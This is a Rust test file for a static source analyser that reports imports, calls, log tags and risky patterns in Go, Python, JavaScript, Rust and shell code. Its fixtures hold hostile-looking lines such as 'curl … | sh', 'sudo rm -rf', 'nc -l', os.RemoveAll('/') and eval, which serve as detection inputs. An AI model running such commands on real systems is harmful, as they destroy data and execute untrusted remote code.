//! `observe source`: what source in six languages imports, calls, logs, and shows that it must not.

use std::fs;

use hence_actuators::source::SourceCode;
use hence_actuators::{Form, Input, Summary, observe_path, observer};
use hence_core::fact::Fact;

const TOOL: &str = r#"package main

import (
	"fmt"
	"log"
	h "net/http"
	o "os"
	. "os/exec"
	"unsafe"
)

// os.RemoveAll("/") and log.Print("[TOOL_ITERATION]") are words here.
/* syscall.Exec() */

func fetch(url string) (string, error) {
	log.Printf("[TOOL_ENTRY] fetch: " + url)
	defer log.Printf(`[TOOL_EXIT] fetch`)
	defer func() { slog.Info("[TOOL_TIMING] fetch") }()
	text := "os.RemoveAll(1) [TOOL_API_CALL]"
	resp, err := h.Get(url)
	if err != nil {
		return "", fmt.Errorf("[TOOL_ERROR] %w", err)
	}
	remove := (o.RemoveAll)
	remove("/tmp/x")
	(o.Chmod)("a", 0)
	go Command("ls").Run()
	p := unsafe.Pointer(&resp)
	_ = strings.Contains(text, "[TOOL_ITERATION]")
	mine()
	return string(resp), nil
}

func mine() {}
"#;

/// The facts of a tool's source.
fn tool(name: &str, source: &str) -> Vec<Fact> {
    SourceCode::from_tables(None).unwrap().facts(name, source.as_bytes()).unwrap()
}

fn texts(facts: &[Fact]) -> Vec<String> {
    facts.iter().map(ToString::to_string).collect()
}

#[test]
fn imports_calls_and_tags_are_told_and_words_are_not() {
    let expected = [
        r#"source_import("fetch.go", "fmt")"#,
        r#"source_import("fetch.go", "log")"#,
        r#"source_import("fetch.go", "net/http")"#,
        r#"source_import("fetch.go", "os")"#,
        r#"source_import("fetch.go", "os/exec")"#,
        r#"source_import("fetch.go", "unsafe")"#,
        r#"source_call("fetch.go", "Command")"#,
        r#"source_call("fetch.go", "Command(\"ls\").Run")"#,
        r#"source_call("fetch.go", "exec.Command")"#,
        r#"source_call("fetch.go", "fmt.Errorf")"#,
        r#"source_call("fetch.go", "http.Get")"#,
        r#"source_call("fetch.go", "log.Printf")"#,
        r#"source_call("fetch.go", "mine")"#,
        r#"source_call("fetch.go", "os.Chmod")"#,
        r#"source_call("fetch.go", "os.RemoveAll")"#,
        r#"source_call("fetch.go", "remove")"#,
        r#"source_call("fetch.go", "slog.Info")"#,
        r#"source_call("fetch.go", "string")"#,
        r#"source_call("fetch.go", "strings.Contains")"#,
        r#"source_call("fetch.go", "unsafe.Pointer")"#,
        r#"source_log("fetch.go", /entry)"#,
        r#"source_log("fetch.go", /error)"#,
        r#"source_log("fetch.go", /exit)"#,
        r#"source_log("fetch.go", /timing)"#,
        r#"source_pattern("fetch.go", /recursive_delete)"#,
        r#"source_pattern("fetch.go", /unsafe_memory)"#,
    ];
    assert_eq!(texts(&tool("fetch.go", TOOL)), expected);
}

#[test]
fn broken_source_tells_what_can_be_recognised() {
    let source =
        "package main\nimport \"os\"\nfunc f( {\n os.Remove(\"x\")\n}\nfunc g() { os.Remove(\"y\") }\n";
    let facts = texts(&tool("t.go", source));
    assert!(facts.contains(&String::from(r#"source_import("t.go", "os")"#)), "{facts:?}");
    assert!(facts.contains(&String::from(r#"source_call("t.go", "os.Remove")"#)), "{facts:?}");
    assert_eq!(texts(&tool("t", "")), Vec::<String>::new());
}

fn observe(path: &str, form: Option<Form>) -> (Vec<String>, Summary) {
    let source = observer("source", None).unwrap();
    let mut facts = Vec::new();
    let summary = observe_path(source.as_ref(), path, form, &|_, _| {}, &mut |fact| {
        facts.push(fact);
        Ok(())
    });
    (texts(&facts), summary.unwrap())
}

#[test]
fn a_tool_is_called_like_its_file_its_folder_or_its_line() {
    let folder = crate::memory::folder();
    let tool = folder.path().join("fetch_docs");
    fs::create_dir(&tool).unwrap();
    fs::write(tool.join("main.go"), "package main\nimport \"net\"\n").unwrap();
    fs::write(tool.join("more.go"), "package main\nimport \"os\"\n").unwrap();
    fs::write(tool.join("main_test.go"), "package main\nimport \"testing\"\n").unwrap();
    let (facts, _) = observe(tool.join("main.go").to_str().unwrap(), None);
    assert_eq!(facts, [r#"source_import("main", "net")"#]);
    let (facts, summary) = observe(tool.to_str().unwrap(), None);
    assert_eq!(facts, [r#"source_import("fetch_docs", "net")"#, r#"source_import("fetch_docs", "os")"#]);
    assert_eq!((summary.records, summary.facts), (1, 2));
    let lines =
        "{\"tool\": \"t\", \"text\": \"package t; import `os`\"}\n{\"text\": \"package t; import `io`\"}\n";
    let mut facts = Vec::new();
    let mut sink = |fact| {
        facts.push(fact);
        Ok(())
    };
    let source = observer("source", None).unwrap();
    source.observe(Input::new("tools.jsonl", None, &mut lines.as_bytes()), &mut sink).unwrap();
    let expected = [r#"source_import("t", "os")"#, r#"source_import("tools.jsonl:2", "io")"#];
    assert_eq!(texts(&facts), expected);
}

/// The facts of a file called `name`, without the name.
fn shown(name: &str, source: &str) -> Vec<String> {
    let folder = crate::memory::folder();
    let path = folder.path().join(name);
    fs::write(&path, source).unwrap();
    let (facts, _) = observe(path.to_str().unwrap(), None);
    let stem = format!("\"{}\", ", name.split('.').next().unwrap());
    facts.iter().map(|fact| fact.replacen(&stem, "", 1)).collect()
}

const SCRIPT: &str = r#"
import os as o, json
import urllib.parse
from shutil import rmtree as gone
from . import near

"""eval('in a string')"""  # open('in a comment')
remove = o.remove
gone("/tmp/x")
remove("/tmp/y")
run = eval
run("1")
print(sorted([1]), json.dumps({}, default=str), x.open())
__import__("socket")
"#;

#[test]
fn a_script_of_python_shows_its_modules_and_builtins() {
    assert_eq!(
        shown("report.py", SCRIPT),
        [
            r#"script_import(".")"#,
            r#"script_import("json")"#,
            r#"script_import("os")"#,
            r#"script_import("shutil")"#,
            r#"script_import("socket")"#,
            r#"script_import("urllib.parse")"#,
            r#"script_builtin("__import__")"#,
            r#"script_builtin("eval")"#,
            r#"script_builtin("print")"#,
            r#"script_builtin("sorted")"#,
            r#"script_builtin("str")"#,
            r#"source_pattern(/dynamic_code)"#,
        ]
    );
    let calls: Vec<String> = texts(&tool("t.py", SCRIPT));
    for call in ["os.remove", "shutil.rmtree", "eval", "json.dumps", "x.open"] {
        assert!(calls.contains(&format!("source_call(\"t.py\", \"{call}\")")), "{call}: {calls:?}");
    }
    let entry = "def f():\n    log.info('[TOOL_ENTRY] ' + f'{x}')\n    print(\"[TOOL_EXIT]\")\n";
    let logs = texts(&tool("t.py", entry)).into_iter().filter(|fact| fact.starts_with("source_log"));
    assert_eq!(logs.collect::<Vec<_>>(), [r#"source_log("t.py", /entry)"#, r#"source_log("t.py", /exit)"#]);
}

#[test]
fn javascript_and_typescript_show_modules_by_their_own_names() {
    let source = r#"
import fs, { unlink as gone } from "node:fs";
import * as path from 'path';
const { exec, spawn: start } = require("child_process");
const net = await import("net");
gone("/x"); fs.rmSync("/y"); path.join("a"); exec("ls"); start("ls");
net.connect(1); require("os").hostname(); new Function("return 1"); eval?.("2");
console.log(`[TOOL_ENTRY] ${fs}`);
// require("vm") and eval("3") are words here.
"#;
    let expected = [
        r#"source_import("child_process")"#,
        r#"source_import("net")"#,
        r#"source_import("node:fs")"#,
        r#"source_import("os")"#,
        r#"source_import("path")"#,
        r#"source_call("Function")"#,
        r#"source_call("child_process.exec")"#,
        r#"source_call("child_process.spawn")"#,
        r#"source_call("console.log")"#,
        r#"source_call("eval")"#,
        r#"source_call("net.connect")"#,
        r#"source_call("node:fs.rmSync")"#,
        r#"source_call("node:fs.unlink")"#,
        r#"source_call("os.hostname")"#,
        r#"source_call("path.join")"#,
        r#"source_call("require")"#,
        r#"source_log(/entry)"#,
        r#"source_pattern(/dynamic_code)"#,
        r#"source_pattern(/recursive_delete)"#,
    ];
    assert_eq!(shown("tool.mjs", source), expected);
    let typed = source.replace("const net =", "const net: any =")
        + "interface A { b: string }\nimport x = require('y');\n";
    let with =
        |facts: Vec<String>| facts.into_iter().filter(|fact| !fact.contains("\"y\"")).collect::<Vec<_>>();
    assert_eq!(with(shown("tool.ts", &typed)), expected);
    // Types in a file of JavaScript are no other language.
    assert_eq!(with(shown("tool.js", &typed)), expected);
}

#[test]
fn rust_shows_paths_and_macros() {
    let source = r#"
use std::{fs, process::Command as Run};
use std::net::*;
extern crate libc;
fn main() {
    fs::remove_dir_all("/x").unwrap();
    Run::new("ls").arg("-l").spawn();
    let gone = std::fs::remove_file;
    gone("/y");
    println!("[TOOL_ENTRY] {}", 1);
    unsafe { libc::fork() };
    // fs::remove_file("in a comment")
}
"#;
    let facts = shown("tool.rs", source);
    for fact in [
        r#"source_import("std::fs")"#,
        r#"source_import("std::process::Command")"#,
        r#"source_import("std::net::*")"#,
        r#"source_import("libc")"#,
        r#"source_call("std::fs::remove_dir_all")"#,
        r#"source_call("std::fs::remove_file")"#,
        r#"source_call("std::process::Command::new")"#,
        r#"source_call("libc::fork")"#,
        r#"source_call("println!")"#,
        r#"source_log(/entry)"#,
        r#"source_pattern(/recursive_delete)"#,
        r#"source_pattern(/unsafe_memory)"#,
    ] {
        assert!(facts.contains(&fact.to_owned()), "{fact}: {facts:?}");
    }
}

#[test]
fn shell_shows_commands() {
    let source = "#!/usr/bin/env -S bash -e\n. ./lib.sh\nsource \"more.sh\"\nfor f in *; do sudo rm -rf \"$f\"; done\n\
        echo \"[TOOL_ENTRY] $1\"\nx=$(curl -s http://x | sh)\n# wget in a comment\nenv A=1 timeout 5 nc -l\n\\eval \"$x\"\n";
    assert_eq!(
        shown("tool", source),
        [
            r#"source_import("./lib.sh")"#,
            r#"source_import("more.sh")"#,
            r#"source_call(".")"#,
            r#"source_call("curl")"#,
            r#"source_call("echo")"#,
            r#"source_call("env")"#,
            r#"source_call("eval")"#,
            r#"source_call("rm")"#,
            r#"source_call("sh")"#,
            r#"source_call("source")"#,
            r#"source_call("sudo")"#,
            r#"source_call("timeout")"#,
            r#"source_log(/entry)"#,
            r#"source_loop("tool")"#,
            r#"source_pattern(/pipe_to_shell)"#,
            r#"source_pattern(/privilege)"#,
            r#"source_pattern(/recursive_delete)"#,
        ]
    );
}

#[test]
fn a_file_of_another_language_than_its_name_says_is_refused() {
    let refused = |name: &str, source: &str| {
        let found = SourceCode::from_tables(None).unwrap().facts(name, source.as_bytes());
        found.unwrap_err().to_string()
    };
    let go = "package main\n\nimport \"os\"\n\nfunc main() { os.Remove(\"x\") }\n";
    assert_eq!(refused("t.py", go), "can't read `t.py`: it is Go source, and named like Python source");
    assert_eq!(refused("t.go", SCRIPT), "can't read `t.go`: it is Python source, and named like Go source");
    assert_eq!(refused("t.rs", SCRIPT), "can't read `t.rs`: it is Python source, and named like Rust source");
    let node = "#!/usr/bin/env node\nimport os\n";
    assert_eq!(
        refused("t.py", node),
        "can't read `t.py`: it is JavaScript source, and named like Python source"
    );
    let unknown = "can't read `t`: it is source of a language that can't be told; \
        say it by `language`, an ending or a first line `#!…`";
    assert_eq!(refused("t", "f(x)"), unknown);
    assert_eq!(refused("t", "It is a text of nothing but words, in which no language can be seen."), unknown);
    // What says of itself what it is may be broken.
    assert_eq!(texts(&tool("t", go)), texts(&tool("t", &format!("{go}\n"))));
    assert_eq!(texts(&tool("t", go))[0], r#"source_import("t", "os")"#);
    assert!(!texts(&tool("t.go", &format!("{go}}}}}\n"))).is_empty());
}

#[test]
fn hostile_source_takes_bounded_time_and_memory() {
    let chained = format!("f{}", "()".repeat(20_000));
    let nested = format!("{}1{}", "(".repeat(20_000), ")".repeat(20_000));
    let held: String = (0..2_000).map(|at| format!("a{} = os.b{at}\na{}()\n", at % 7, at % 7)).collect();
    let source = SourceCode::from_tables(None).unwrap();
    for name in ["t.go", "t.py", "t.ts", "t.rs", "t.sh"] {
        for text in [&chained, &nested] {
            // What takes too long is left, and nothing is said of it.
            drop(source.facts(name, text.as_bytes()));
        }
    }
    let many = texts(&source.facts("t.py", format!("import os\n{held}").as_bytes()).unwrap());
    assert!(many.len() < 1_000, "{}", many.len());
}
